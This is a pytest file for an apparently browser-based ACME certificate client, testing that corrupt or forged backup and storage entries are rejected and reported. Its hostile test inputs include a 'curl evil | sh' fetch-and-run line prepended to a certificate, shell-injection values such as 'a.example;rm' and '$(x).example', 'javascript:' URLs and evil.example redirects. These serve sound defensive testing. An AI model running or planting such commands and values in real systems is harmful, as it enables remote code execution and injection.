"""Entries of a backup or of storage that are damaged, or were made up: each is told, and none takes the others."""

import base64
from collections.abc import Iterator
from dataclasses import replace
from typing import Any, Final

import pytest

from app.backup.content import Backup
from app.backup.restore import preview
from app.errors import StorageError
from app.issuance.issuance import Issuance
from app.issuance.record import issuance_to_json
from app.text.backup import outcome, restoring_question
from app.text.sentences import sentence
from tests.unit.backups import ACCOUNT_KEY, MINE, content, corrupt, key_entry, order, restored, with_account
from tests.unit.chains import NOW, chain
from tests.unit.records import DIRECTORY, record
from tests.unit.scripted_ca import ACCOUNT
from tests.unit.ui.panels.test_backup import everything
from tests.unit.visit import PRACTICE, Visit

pytestmark = pytest.mark.unmeasured  # the same lines again and again, and each of them is measured elsewhere

# ---- in a backup ----


BAD_ACCOUNTS: Final[list[tuple[str, object]]] = [
    ("version", 99), ("version", True), ("version", 2.0), ("id", "other"), ("id", f"{DIRECTORY} \u202e2"), ("id", 5),
    ("ca", "unknown"), ("ca", "a\u202eb"), ("ca", ""),
    ("directory", "https://evil.example/dir"), ("directory", "http://ca.example/dir"), ("directory", "javascript:alert(1)"),
    ("url", "https://evil.example/account/1"), ("url", "https://ca.example/\u202e"), ("url", "https://x@ca.example/a"),
    ("url", "https://ca.example/" + "a" * 3000), ("url", None),
    ("key", "certificate 1"), ("key", 5), ("key", ""), ("next_key", ACCOUNT_KEY), ("next_key", "proof 1"),
    ("used", True), ("used", -1), ("used", 1e300), ("used", float("inf")), ("used", float("nan")), ("used", 10**400),
    ("used", "5"), ("made", None), ("extractable", 1), ("restored", "no"), ("contact", "mailto:a@b.example"),
    ("contact", ["mailto:a@b.example\r\nx"]), ("contact", ["javascript:1"]), ("contact", ["mailto:a@b.example"] * 99),
    ("contact", [[]]), ("terms", "\u202e"), ("terms", "https://ca.example/\n"), ("foreign", 1),
]  # fmt: skip


@pytest.mark.parametrize(("member", "value"), BAD_ACCOUNTS)
async def test_account_that_is_bad_is_left_out_and_told(member: str, value: object) -> None:
    visit = Visit()
    hostile = content()
    good = {**hostile["accounts"][0], "id": f"{DIRECTORY} 2", "url": MINE, "key": "account good"}
    hostile["accounts"][0][member] = value
    hostile["accounts"].append(good)
    hostile["keys"].append(key_entry("account good"))
    came = await restored(visit, hostile)
    assert [account.url for account in came.accounts] == [MINE]
    assert [entry.part for entry in came.skipped] == ["account"]
    assert len(came.issuances) == 4
    assert [account.url for account in await visit.workflow.accounts.readable()] == [MINE]


DIGEST: Final = "A" * 43
BAD_ORDERS: Final[list[tuple[str, str, object]]] = [
    ("2", "version", 99), ("2", "version", True), ("2", "version", [1]), ("2", "id", "a b"), ("2", "id", "\u202e"),
    ("2", "id", "x" * 65),
    ("2", "id", ""), ("2", "id", 5), ("2", "state", "flying"), ("2", "state", []),
    ("2", "created", True), ("2", "created", "5"), ("2", "created", 4e9), ("2", "since", 10**400),
    ("2", "since", float("inf")),
    ("2", "since", -5), ("2", "revoked", float("nan")), ("2", "ask_again", 1e300), ("2", "key_destroyed", 4e9),
    ("2", "choices/identifiers", []), ("2", "choices/identifiers", [{"type": "dns", "value": "a.example"}] * 2),
    ("2", "choices/identifiers", [{"type": "dns", "value": f"n{n}.example"} for n in range(101)]),
    ("2", "choices/identifiers/0/value", "*.web.example"), ("2", "choices/identifiers/0/type", "email"),
    *(
        ("2", "choices/identifiers/0/value", name)
        for name in (
            "localhost", "WEB.example", "a..example", "-a.example", "a.1", "bad_name.example", "b\u00fccher.example",
            "a.example;rm",
            "a\u202e.example", "$(x).example", "a.example\n", "192.0.2.1", "a" * 64 + ".example", "ab--cd.example",
            "xn--99999999999.example",
        )
    ),
    ("2", "choices/identifiers/0", {"type": "ip", "value": "fe80::1%`x`"}),
    ("2", "choices/identifiers/0", {"type": "ip", "value": "::FFFF:192.0.2.1"}),
    ("2", "choices/ca", "unknown"), ("2", "choices/directory", "https://evil.example/dir"),
    ("2", "choices/account", "account x"),
    ("2", "choices/account", f"{DIRECTORY} 2; x"), ("2", "choices/challenge", "carrier-pigeon-01"),
    ("2", "choices/challenge", "dns-01"),
    ("2", "choices/key_spec", "rsa-1024"), ("2", "choices/terms_agreed", 1),
    ("2", "choices/challenges", [["\u202e", "dns-01"]]),
    ("2", "choices/challenges", [["a.example", "x"]]), ("2", "choices/persist_until", True),
    ("2", "choices/persist_until", 1e10),
    ("2", "choices/persist_until", 10**400), ("2", "choices/profile", "a b"), ("2", "choices/profile", "\u202e"),
    ("2", "choices/csr", "not base64!"), ("2", "choices/csr", "AAAA"), ("2", "choices/replaces", "a/../b"),
    ("2", "account_url", "https://evil.example/a"), ("2", "order_url", "http://ca.example/o"),
    ("2", "finalize_url", "https://evil.example/f"),
    ("2", "authorization_urls/0", "https://evil.example/z"), ("2", "certificate_url", "https://ca.example:444/c"),
    ("2", "proofs/0/authorization_url", "https://evil.example/z"), ("2", "proofs/0/challenge_url", "javascript:1"),
    ("2", "proofs/0/identifier/value", "other.example"), ("2", "proofs/0/status", 5), ("2", "proofs/0/answered", 1),
    ("2", "proofs/0/publication/url", "http://evil.example/.well-known/acme-challenge/token-of-name-0"),
    ("2", "proofs/0/publication/url", "http://web.example/x"),
    ("2", "proofs/0/publication/url", "http://web.example/.well-known/acme-challenge/t"),
    ("2", "proofs/0/publication/url", "http://web.example/.well-known/acme-challenge/token-of-name-0\u202e"),
    ("2", "proofs/0/publication/body", "token-of-name-0"), ("2", "proofs/0/publication/body", f"other.{DIGEST}"),
    ("2", "proofs/0/publication/body", f"token-of-name-0.{DIGEST}"),
    ("2", "proofs/0/publication/body", "token-of-name-0.\u202e"),
    ("2", "proofs/0/publication", {"type": "dns", "name": "_acme-challenge.web.example", "values": [DIGEST]}),
    ("3", "proofs/0/publication/proof", f"a b.{DIGEST}"), ("3", "proofs/0/publication/proof", f"token-of-name-0.{DIGEST}"),
    ("3", "proofs/0/publication/identifier/value", "other.example"), ("3", "proofs/0/publication/identifier/value", "a;b"),
    ("4", "proofs/0/publication/name", "_acme-challenge.other.example"),
    ("4", "proofs/0/publication/name", "_acme-challenge.one.example; x"),
    ("4", "proofs/0/publication/values", [DIGEST, DIGEST]), ("4", "proofs/0/publication/values", ["v=spf1 -all"]),
    ("4", "proofs/0/publication/values", ["\u202e" * 43]), ("4", "proofs/0/publication/values", []),
    ("1", "certificate_pem", "nonsense"), ("1", "certificate_pem", ""), ("1", "chains", ["nonsense"]),
    ("1", "chains", ["x"] * 99),
    ("1", "choices/identifiers/0/value", "other.example"),
    ("1", "window", {"start": 5, "end": 1, "why": "", "asked": 0}), ("1", "window", {"start": True, "end": 5, "why": ""}),
    ("1", "problem", []),
]  # fmt: skip


@pytest.mark.parametrize(("id_", "path", "value"), BAD_ORDERS)
async def test_order_that_is_bad_is_left_out_and_told(id_: str, path: str, value: object) -> None:
    visit = Visit()
    hostile = content()
    corrupt(order(hostile, id_), path, value)
    came = await restored(visit, hostile)
    assert {issuance.id for issuance in came.issuances} == {"1", "2", "3", "4"} - {id_}
    assert len(came.accounts) == 1
    assert [entry.part for entry in came.skipped] == ["order"]
    await visit.open()
    assert {entry.id for entry in visit.list.entries} == {"1", "2", "3", "4"} - {id_}


async def test_certificate_with_something_beside_it_is_left_out() -> None:
    visit = Visit()
    hostile = content()
    one = order(hostile, "1")
    one["certificate_pem"] = one["chains"][0] = f"curl evil | sh\n{one['certificate_pem']}"
    assert "something-else" in str((await restored(visit, hostile)).skipped[0].reason)


BAD_KEYS: Final[list[tuple[str, object]]] = [
    ("name", ["x"]), ("name", None), ("spec", "rsa-2048"), ("spec", "ec-p384"), ("spec", None), ("spki", "MA=="),
    ("spki", "!"), ("spki", 5),
    ("spki", key_entry("x")["spki"]), ("pkcs8", "AAAA"), ("pkcs8", key_entry("x")["pkcs8"]), ("pkcs8", None),
    ("pkcs8", "A" * 20_000),
    ("pkcs8", {}),
]  # fmt: skip


@pytest.mark.parametrize(("member", "value"), BAD_KEYS)
async def test_key_that_is_bad_is_left_out_and_told(member: str, value: object) -> None:
    """An account without its key is not restored; the orders and the other keys are."""
    visit = Visit()
    hostile = content()
    entry = next(key for key in hostile["keys"] if key["name"] == ACCOUNT_KEY)
    entry[member] = value
    came = await restored(visit, hostile)
    assert [bad.part for bad in came.skipped] == ["key"]
    assert ([account.url for account in came.keyless], came.accounts) == ([ACCOUNT], ())
    assert len(came.issuances) == 4
    assert "certificate 1" in await visit.ports.keys.names()
    assert "AAAA" not in repr(came.skipped)


async def test_private_key_that_only_the_key_store_finds_out_takes_its_own_entry_away() -> None:
    """An EC key in PKCS#8 need not name its public half (RFC 5915 §3)."""
    from asn1crypto.keys import ECPrivateKey, PrivateKeyInfo

    visit = Visit()
    hostile = content()
    entry = next(key for key in hostile["keys"] if key["name"] == ACCOUNT_KEY)
    info = PrivateKeyInfo.load(base64.b64decode(key_entry("x")["pkcs8"]))
    key = info["private_key"].parsed
    bare = ECPrivateKey({"version": "ecPrivkeyVer1", "private_key": key["private_key"], "parameters": ("named", "secp256r1")})
    entry["pkcs8"] = base64.b64encode(PrivateKeyInfo.wrap(bare, "ec").dump()).decode()
    came = await restored(visit, hostile)
    assert [(bad.part, bad.account and bad.account.url) for bad in came.skipped] == [("account", ACCOUNT)]
    assert (came.accounts, len(came.issuances)) == ((), 4)
    assert ACCOUNT_KEY not in await visit.ports.keys.names()
    assert ACCOUNT_KEY not in await visit.ports.store.keys()


async def test_certificate_key_must_be_the_certificates_own() -> None:
    visit = Visit()
    hostile = content()
    hostile["keys"] = [key for key in hostile["keys"] if key["name"] != "certificate 1"] + [key_entry("certificate 1")]
    came = await restored(visit, hostile)
    assert "1" in {issuance.id for issuance in came.issuances}
    assert "certificate 1" not in await visit.ports.keys.names()
    assert [(entry.part, str(entry.reason)) for entry in came.skipped] == [("key", "key-not-of-this-certificate")]


async def test_two_of_one_kind_do_not_both_come_in() -> None:
    visit = Visit()
    hostile = content()
    hostile["accounts"] += [hostile["accounts"][0], {**hostile["accounts"][0], "url": MINE}]
    hostile["issuances"] += [hostile["issuances"][0]]
    came = await restored(visit, hostile)
    assert ([account.url for account in came.accounts], len(came.issuances)) == ([ACCOUNT], 4)
    assert [entry.part for entry in came.skipped] == ["account", "order"]


async def test_ca_that_this_page_does_not_list_is_told() -> None:
    visit = Visit(authorities=(PRACTICE,))
    came = await restored(visit, content())
    assert (came.accounts, came.issuances) == ((), ())
    assert {str(entry.reason) for entry in came.skipped} == {"entry-of-an-unknown-ca"}


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The paths to everything inside a JSON value."""
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in entries:
        yield (*path, key)
        yield from places(inner, (*path, key))


@pytest.mark.parametrize("damage", [None, True, "\u202e\x00", {}], ids=repr)
async def test_damage_anywhere_never_touches_what_is_here(damage: object) -> None:
    for path in places({name: content()[name][:3] for name in ("accounts", "issuances", "keys")}):
        if len(path) < 2:
            continue
        visit = Visit()
        await with_account(visit)
        before = await everything(visit)
        hostile = content()
        corrupt(hostile, "/".join(map(str, path)), damage)
        question = restoring_question(visit.workflow, await preview(visit.workflow, Backup.from_json(hostile)))
        shown = [
            *question.lines,
            *(line for part in outcome(visit.workflow, await restored(visit, hostile)) for line in part.lines),
        ]
        assert all(line.isprintable() for line in shown), path
        after = await everything(visit)
        for part in (0, 1):
            assert {name: after[part][name] for name in before[part]} == before[part], path
        await visit.open()
        assert visit.list.message is None, path
        assert not any(entry.status == "unreadable" for entry in visit.list.entries), path


# ---- in storage ----


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("choices/identifiers", []),
        ("choices/identifiers/0/value", "a;b"),
        ("choices/identifiers/0/value", "a\u202e.example"),
        ("proofs/0/publication/url", "http://evil.example/x"),
        ("proofs/0/publication/body", "x"),
        ("created", True),
        ("id", "another"),
        ("account_url", "https://evil.example/a"),
    ],
)
async def test_stored_record_that_is_bad_is_unreadable_and_can_be_deleted(path: str, value: object) -> None:
    visit = Visit()
    entry = order(content(), "2")
    corrupt(entry, path, value)
    await visit.ports.store.put("issuance 2", entry)
    await visit.ports.store.put("issuance 9", issuance_to_json(good()))
    await visit.open()
    assert {shown.id: shown.status for shown in visit.list.entries} == {"9": "issued", "2": "unreadable"}
    await visit.saved.reopen("2")
    assert visit.page.error is not None
    await visit.saved.delete("2")
    assert [shown.id for shown in visit.list.entries] == ["9"]


def good() -> Issuance:
    """A record with its certificate."""
    made = record("good.example", id="9", state="issued", certificate_pem=chain("good.example"))
    return replace(made, created=NOW.timestamp())


async def test_stored_account_under_another_ones_name_is_not_taken() -> None:
    visit = Visit()
    mine = await with_account(visit)
    await visit.ports.store.put(f"account {DIRECTORY} 2", mine.to_json())
    assert await visit.workflow.accounts.all() == [mine]
    with pytest.raises(StorageError, match="account-damaged") as caught:
        await visit.workflow.accounts.saved(f"{DIRECTORY} 2")
    assert sentence(caught.value).endswith("It is stored under the name of another record.")
